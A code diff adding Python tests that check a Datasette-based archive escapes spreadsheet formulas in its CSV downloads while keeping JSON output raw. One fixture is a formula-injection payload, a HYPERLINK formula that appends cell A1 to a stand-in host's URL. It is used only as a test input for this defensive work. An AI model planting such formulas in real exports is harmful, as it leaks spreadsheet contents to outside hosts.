@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import sqlite3
 
@@ -12,6 +14,8 @@ from hypothesis import strategies as st
 
 from archive.browse import access, cells, metadata, queries, search
 from archive.browse.serve import build as build_datasette
+from archive.browse.sheets import Sheet
+from archive.formulas import escape, unescape
 from archive.store import Store, questions
 from tests.archive.browse_archive import build
 from tests.archive.browse_server import running
@@ -44,6 +48,49 @@ def db(built):
 
 
 # --- tables
+
+
+FORMULA = '=HYPERLINK("http://elders.test/?"&A1,"klik")'
+
+
+def test_what_is_downloaded_as_csv_holds_no_formula(client):
+    asked = {
+        "f": FORMULA,
+        "_header": "off",
+        "sql": """select :f, '@SUM(1)', -5, '-5.5', '-5-5', 'a "b", c' || char(13,10) || '=1'""",
+    }
+    for options in ({}, {"_dl": "1"}):
+        text = client.get("/archive.csv", params={**asked, **options}).text
+        (row,) = csv.reader(io.StringIO(text, newline=""))
+        assert row == ["'" + FORMULA, "'@SUM(1)", "-5", "-5.5", "'-5-5", 'a "b", c\r\n=1']
+    head, _ = csv.reader(io.StringIO(client.get("/archive.csv", params={"sql": 'select 1 as "=1+1"'}).text))
+    assert head == ["'=1+1"]
+    # What is no CSV says what there is.
+    assert client.get("/archive.json", params={"f": FORMULA, "sql": "select :f as f", "_shape": "array"}).json() == [
+        {"f": FORMULA}
+    ]
+
+
+def test_csv_is_otherwise_as_datasette_has_it(client):
+    for table in ("capture", "resource", "page_version", "current_member", "change"):
+        rows = client.get(f"/archive/{table}.json?_shape=arrays&_size=max").json()["rows"]
+        _, *body = csv.reader(io.StringIO(client.get(f"/archive/{table}.csv?_stream=on").text, newline=""))
+        assert body == [["" if cell is None else str(escape(cell)) for cell in row] for row in rows], table
+        assert rows, table
+
+
+@given(
+    st.lists(st.lists(st.text(st.sampled_from("=-+@'\"\r\n,1.e \t\uff1dé")), min_size=2), min_size=1), st.integers(1, 7)
+)
+def test_a_sheet_takes_rows_in_any_pieces_and_loses_nothing(rows, length):
+    written = io.StringIO(newline="")
+    csv.writer(written).writerows(rows)
+    sent, sheet = written.getvalue().encode(), Sheet()
+    pieces = [sent[at : at + length] for at in range(0, len(sent), length)]
+    read = csv.reader(io.StringIO((b"".join(map(sheet.feed, pieces)) + sheet.end()).decode(), newline=""))
+    for row, expected in zip(read, rows, strict=True):
+        assert [unescape(cell) for cell in row] == expected
+        assert all(cell == escape(unescape(cell)) or re.fullmatch(r"[-+]?[0-9.]+(e[-+]?[0-9]+)?", cell) for cell in row)
 
 
 def test_cells_show_logos_badges_times_and_ways_to_the_capture(client, built):
